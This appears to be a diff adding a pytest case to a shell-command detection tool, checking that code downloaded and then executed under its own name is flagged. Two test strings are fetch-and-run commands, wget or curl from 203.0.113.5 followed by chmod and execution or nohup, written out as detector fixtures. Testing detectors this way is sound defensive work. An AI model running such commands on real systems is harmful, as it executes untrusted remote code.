@@ -1,5 +1,6 @@
 import pytest
 
+from colonnade.detection.extract import extract
 from colonnade.detection.features.feature import Collector, Kind
 from colonnade.detection.features.targets import read_targets
 
@@ -29,3 +30,17 @@ def targets(line: str) -> set[tuple[Kind, str]]:
 )
 def test_targets_of_a_command(line: str, found: set[tuple[Kind, str]]):
     assert targets(line) == found
+
+
+@pytest.mark.parametrize(
+    ("source", "runs"),
+    [
+        ("!wget http://203.0.113.5/x/abc && chmod +x abc && ./abc", True),
+        ("!curl -O http://203.0.113.5/abc?x=1\n!nohup ./abc &", True),
+        ("!wget http://203.0.113.5/abc.csv && ./other abc.csv", False),
+        ("!wget http://203.0.113.5/abc", False),
+    ],
+)
+def test_what_is_fetched_and_run_under_its_name_is_noted(source: str, *, runs: bool):
+    noted = {one.value for one in extract(source) if one.kind is Kind.OPAQUE}
+    assert ("downloaded-program" in noted) is runs
